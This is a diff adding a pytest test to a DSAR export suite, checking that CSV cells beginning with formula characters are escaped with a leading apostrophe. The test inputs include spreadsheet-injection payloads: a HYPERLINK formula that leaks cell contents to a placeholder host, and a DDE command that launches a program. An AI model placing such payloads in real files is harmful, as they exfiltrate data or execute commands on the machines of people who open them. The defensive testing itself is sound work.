@@ -117,6 +117,24 @@ def test_csv_and_html_carry_the_same_records(subscriber: Ledger) -> None:
     assert "<script>x" not in escaped and "&lt;script&gt;x" in escaped
 
 
+@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://x.example/?"&A1,"open")',
+                                     "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+                                     "\t=1+1"])
+def test_no_csv_cell_starts_a_spreadsheet_formula(subscriber: Ledger, hostile: str) -> None:
+    """A record name or a source's name from a fact that a spreadsheet would run as a
+    formula (=, +, -, @, or a tab or return before one) is written as text (a leading
+    apostrophe), so opening the DSAR pack runs nothing; the JSON export keeps the value."""
+    document = subscriber.dsar_export("subscriber:7", NOW)
+    document["records"][0]["record"] = hostile
+    document["records"][0]["source_name"] = hostile
+    rows = list(csv.DictReader(io.StringIO(to_csv(document))))
+    for row in rows:
+        for column, cell in row.items():
+            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    assert rows[0]["record"] == "'" + hostile
+    assert rows[0]["source_name"] == "'" + hostile
+
+
 def test_an_unknown_subject_is_refused(ledger: Ledger) -> None:
     """Exporting a subject with no facts raises SubjectNotFound."""
     from lifecycle.errors import SubjectNotFound
